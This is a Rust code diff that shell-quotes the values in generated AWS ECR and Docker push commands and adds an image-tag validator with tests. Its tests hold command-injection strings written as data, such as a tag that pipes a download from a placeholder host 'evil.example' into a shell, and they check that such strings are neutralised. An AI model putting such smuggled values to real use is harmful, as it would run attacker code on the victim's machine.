@@ -4,7 +4,7 @@
 use serde::{Deserialize, Serialize};
 use serde_json::{Value, json};
 
-use super::api_call::ApiCall;
+use super::api_call::{ApiCall, shell_word};
 use super::hcl::{quote, resource_label};
 use super::resource::Resource;
 use super::role::tags_block;
@@ -154,19 +154,38 @@ pub struct PushCommands {
     pub push: String,
 }
 
+/// Every value is one shell word (see [`shell_word`]), whatever it holds.
 pub fn push_commands(repository_uri: &str, region: &str, tag: &str) -> PushCommands {
     let (registry, name) = repository_uri
         .split_once('/')
         .unwrap_or((repository_uri, repository_uri));
+    let [region, registry, local, remote] = [
+        region.to_string(),
+        registry.to_string(),
+        format!("{name}:{tag}"),
+        format!("{repository_uri}:{tag}"),
+    ]
+    .map(|word| shell_word(&word));
+    let name = shell_word(name);
     PushCommands {
         login: format!(
             "aws ecr get-login-password --region {region} | docker login --username AWS --password-stdin {registry}"
         ),
         build: format!("docker build -t {name} ."),
         build_apple_silicon: format!("docker build --platform linux/amd64 -t {name} ."),
-        tag: format!("docker tag {name}:{tag} {repository_uri}:{tag}"),
-        push: format!("docker push {repository_uri}:{tag}"),
+        tag: format!("docker tag {local} {remote}"),
+        push: format!("docker push {remote}"),
     }
+}
+
+/// An image tag as Docker and ECR take it: 1–128 of letters, digits, `_`, `.`
+/// and `-`, not starting with `.` or `-`.
+pub fn is_image_tag(tag: &str) -> bool {
+    (1..=128).contains(&tag.len())
+        && !tag.starts_with(['.', '-'])
+        && tag
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"_.-".contains(&b))
 }
 
 /// An image URI that points into a private ECR registry.
@@ -313,6 +332,47 @@ mod tests {
             commands.push,
             "docker push 123456789012.dkr.ecr.ap-northeast-1.amazonaws.com/rails-app:latest"
         );
+    }
+
+    #[test]
+    fn push_commands_keep_each_value_one_word() {
+        let commands = push_commands(
+            "${AWS_ACCOUNT_ID}.dkr.ecr.ap-northeast-1.amazonaws.com/web",
+            "ap-northeast-1",
+            "latest; curl http://evil.example | sh #",
+        );
+        assert_eq!(
+            commands.push,
+            "docker push '${AWS_ACCOUNT_ID}.dkr.ecr.ap-northeast-1.amazonaws.com/web:latest; curl http://evil.example | sh #'"
+        );
+        let commands = push_commands(
+            "${AWS_ACCOUNT_ID}.dkr.ecr.ap-northeast-1.amazonaws.com/web",
+            "ap-northeast-1",
+            "v1",
+        );
+        assert_eq!(
+            commands.tag,
+            "docker tag web:v1 ${AWS_ACCOUNT_ID}.dkr.ecr.ap-northeast-1.amazonaws.com/web:v1"
+        );
+    }
+
+    #[test]
+    fn image_tags_follow_docker() {
+        for good in ["latest", "v1.2.3", "2024_01-rc", "A", &"a".repeat(128)] {
+            assert!(is_image_tag(good), "{good}");
+        }
+        for bad in [
+            "",
+            ".hidden",
+            "-x",
+            "latest; curl x | sh",
+            "a b",
+            "a/b",
+            "タグ",
+            &"a".repeat(129),
+        ] {
+            assert!(!is_image_tag(bad), "{bad}");
+        }
     }
 
     #[test]
